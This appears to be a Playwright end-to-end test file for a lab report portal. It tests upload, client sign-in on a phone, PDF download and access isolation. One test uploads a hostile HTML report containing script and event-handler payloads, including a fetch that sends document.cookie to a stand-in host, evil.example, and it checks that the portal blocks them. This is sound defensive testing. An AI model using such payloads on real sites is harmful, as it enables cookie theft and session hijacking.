import { expect, signIn, test } from './portal'
import { tripletFiles } from './triplets'

/** In full thirty at once are uploaded by those who get in (getting-in.spec.ts). */
const COUNT = 8

test('an admin drops several triplets, hands one client the sign-in, and the client reads the result on a phone', async ({
  asAdmin,
  browser,
  portal,
}) => {
  const people = Array.from({ length: COUNT }, (_, n) => ({
    id: `ST${100 + n}`,
    name: `Story Person${n}`,
    email: `story${n}@example.com`,
  }))
  await asAdmin.goto('/admin/reports')
  await asAdmin.getByRole('button', { name: 'Upload Report' }).click()
  const dialog = asAdmin.getByRole('dialog', { name: 'Upload Report' })
  const files = people.flatMap(({ id, name, email }) => tripletFiles(id, name, email))
  // A real drop: the files arrive as a DataTransfer, not through the chooser.
  const data = await asAdmin.evaluateHandle(
    (given) => {
      const transfer = new DataTransfer()
      for (const { name, type, text } of given)
        transfer.items.add(new File([Uint8Array.from(atob(text), (c) => c.charCodeAt(0))], name, { type }))
      return transfer
    },
    files.map(({ name, mimeType, buffer }) => ({ name, type: mimeType, text: buffer.toString('base64') })),
  )
  for (const event of ['dragenter', 'dragover', 'drop'])
    await dialog.dispatchEvent(event, { dataTransfer: data })
  await expect(dialog.getByText('All required files selected')).toHaveCount(COUNT)
  await dialog.getByRole('button', { name: 'Upload Report' }).click()
  await expect(dialog.getByText(`${COUNT} of ${COUNT} complete samples uploaded`).first()).toBeVisible({
    timeout: 90_000,
  })
  await expect(asAdmin.getByText(`${COUNT} reports have been uploaded successfully.`)).toBeVisible()
  await expect(
    dialog.getByRole('heading', { name: `${COUNT} of ${COUNT} reports reached their client` }),
  ).toBeVisible()
  await asAdmin.keyboard.press('Escape')
  await expect(dialog).toBeHidden()

  const chosen = people[5]
  await asAdmin.getByRole('searchbox').fill('ST105')
  await expect(asAdmin.getByText(/^Showing 1 of \d+ reports$/)).toBeVisible()
  await asAdmin
    .getByRole('button', { name: /^More actions/ })
    .first()
    .click()
  await asAdmin.getByRole('menuitem', { name: 'Client sign-in' }).click()
  const signInDialog = asAdmin.getByRole('dialog', { name: /sign-in/i })
  await signInDialog.getByRole('button', { name: /^Show/ }).click()
  const password = (await signInDialog.getByText(/^[\w-]{19}$/).textContent()) ?? ''
  expect(password).toMatch(/^\w{4}-\w{4}-\w{4}-\w{4}$/)
  // Shown for ten seconds, then gone.
  await expect(signInDialog.getByText(password)).toBeHidden({ timeout: 90_000 })

  const phone = await browser.newContext({
    viewport: { width: 390, height: 844 },
    hasTouch: true,
    isMobile: true,
    baseURL: portal.url,
  })
  const page = await phone.newPage()
  await page.goto('/client/my-reports')
  await expect(page).toHaveURL(/\/auth\?next=/)
  await page.getByLabel('Email').fill(chosen?.email ?? '')
  await page.getByLabel('Password', { exact: true }).fill(password)
  await page.getByRole('button', { name: 'Sign In' }).click()
  await expect(page).toHaveURL(/\/client\/my-reports$/)
  await page.getByRole('button', { name: 'Skip' }).click()
  await expect(page.getByRole('heading', { name: 'My Report Summary' })).toBeVisible()
  // What is for paper tells both too, unseen.
  await expect(page.getByText('ST105').filter({ visible: true }).first()).toBeVisible()
  await expect(page.getByText('14 November 2026').filter({ visible: true }).first()).toBeVisible()
  await page
    .getByRole('button', { name: /Egg white/ })
    .first()
    .click()
  const food = page.getByRole('dialog', { name: 'May I eat ...? Egg white' })
  await food.locator('summary', { hasText: 'About egg white' }).click()
  await expect(food.getByText('Gallus', { exact: false })).toBeVisible()
  await expect(food.getByText('54.7', { exact: false }).first()).toBeVisible()
  await page.keyboard.press('Escape')

  const link = page.getByRole('link', { name: 'View My Full Report' })
  const href = (await link.getAttribute('href')) ?? ''
  const pdf = await page.request.get(href)
  expect(pdf.headers()['content-type']).toBe('application/pdf')
  expect((await pdf.body()).subarray(0, 5).toString()).toBe('%PDF-')
  const download = page.waitForEvent('download')
  await page.getByRole('link', { name: 'Download My Full Report' }).click()
  expect((await download).suggestedFilename()).toBe('Food_Intolerance_Report_ST105.pdf')
  await phone.close()
})

test('the template downloads as a zip whose files upload cleanly', async ({ asAdmin }) => {
  await asAdmin.goto('/admin/reports')
  const waiting = asAdmin.waitForEvent('download')
  await asAdmin.getByRole('button', { name: 'Download Template' }).click()
  const path = await (await waiting).path()
  await expect(asAdmin.getByText('Template Downloaded')).toBeVisible()
  const { default: JSZip } = await import('jszip')
  const { readFile } = await import('node:fs/promises')
  const zip = await JSZip.loadAsync(await readFile(path))
  const files = await Promise.all(
    Object.values(zip.files).map(async (file) => ({
      name: file.name,
      mimeType: '',
      buffer: await file.async('nodebuffer'),
    })),
  )
  expect(files.map(({ name }) => name.split('.').pop()).sort()).toEqual(['csv', 'html', 'pdf'])
  await asAdmin.getByRole('button', { name: 'Upload Report' }).click()
  const dialog = asAdmin.getByRole('dialog', { name: 'Upload Report' })
  await dialog.locator('input[type=file][multiple]').setInputFiles(files)
  await dialog.getByRole('button', { name: 'Upload Report' }).click()
  // It is nobody's, and nothing says otherwise.
  await expect(dialog.getByRole('heading', { name: '0 of 1 report reached their client' })).toBeVisible()
  await expect(dialog.getByText('No suggestion')).toBeVisible()
})

test('files that do not fit are said by name, and a sample without its CSV waits', async ({ asAdmin }) => {
  await asAdmin.goto('/admin/reports')
  await asAdmin.getByRole('button', { name: 'Upload Report' }).click()
  const dialog = asAdmin.getByRole('dialog', { name: 'Upload Report' })
  const [html, pdf] = tripletFiles('WAIT1', 'Waits Here')
  const big = {
    name: 'BIG1_Too_Big.pdf',
    mimeType: 'application/pdf',
    buffer: Buffer.alloc(11 * 1024 * 1024),
  }
  const unnamed = {
    name: 'whitfield-final.pdf',
    mimeType: 'application/pdf',
    buffer: Buffer.from('%PDF-1.4'),
  }
  await dialog
    .locator('input[type=file][multiple]')
    .setInputFiles([html, pdf, big, unnamed].filter((file) => file !== undefined))
  await expect(
    dialog.getByText('Could not extract sample ID and client name from filename.', { exact: false }),
  ).toBeVisible()
  await expect(dialog.getByText('whitfield-final.pdf')).toBeVisible()
  await expect(dialog.getByText('BIG1_Too_Big.pdf')).toBeVisible()
  await expect(dialog.getByText('Missing files: CSV')).toBeVisible()
})

test('a hostile HTML report runs no script, sends nothing and cannot see the cookies', async ({
  asAdmin,
  portal,
}) => {
  const outside: string[] = []
  await asAdmin.context().route(/^https?:\/\/(?!(127\.0\.0\.1|localhost))/, async (route) => {
    outside.push(route.request().url())
    await route.abort()
  })
  const html = `<!doctype html><title>Report</title>
    <table><tr><th>Sample ID</th><td>HOST1</td></tr></table>
    <script>document.title = 'ran'; fetch('https://evil.example/fetch?' + document.cookie)</script>
    <img src="https://evil.example/pixel.png" onerror="document.title = 'ran'">
    <svg onload="document.title = 'ran'"></svg>
    <iframe src="/admin/reports"></iframe>
    <meta http-equiv="refresh" content="0; url=https://evil.example/away">
    <link rel="stylesheet" href="https://evil.example/style.css">
    <style>body { background: url(https://evil.example/back.png) }</style>
    <form action="/api/logout" method="post"><button id="send">Send</button></form>
    <a id="away" href="javascript:document.title='ran'">Away</a>`
  const [page, pdf, csv] = tripletFiles('HOST1', 'Hostile File')
  const answer = await asAdmin.request.post('/api/reports/multi-file', {
    multipart: {
      sampleId: 'HOST1',
      clientName: 'Hostile File',
      htmlFile: { ...(page ?? { name: '', mimeType: '' }), buffer: Buffer.from(html) },
      pdfFile: pdf ?? '',
      csvFile: csv ?? '',
    },
  })
  expect(answer.status()).toBe(201)
  const { id } = (await answer.json()) as { id: number }
  await asAdmin.goto(`/api/reports/${id}/view`)
  await asAdmin.locator('#away').click()
  await asAdmin.locator('#send').click()
  await asAdmin.waitForTimeout(500)
  expect(await asAdmin.title()).toBe('Report')
  expect(asAdmin.url()).toBe(`${portal.url}/api/reports/${id}/view`)
  expect(outside).toEqual([])
  expect((await asAdmin.request.get('/api/user')).status()).toBe(200)
})

test('what an admin uploads for somebody else never shows to a client', async ({ page, portal }) => {
  await signIn(page, portal.client)
  for (const path of ['/api/reports/2', '/api/reports/2/view', '/api/reports/2/pdf', '/api/reports/99999'])
    expect((await page.request.get(path)).status()).toBe(404)
  await page.goto('/client/my-reports/2')
  await expect(page.getByText('Failed to fetch report')).toBeVisible()
})
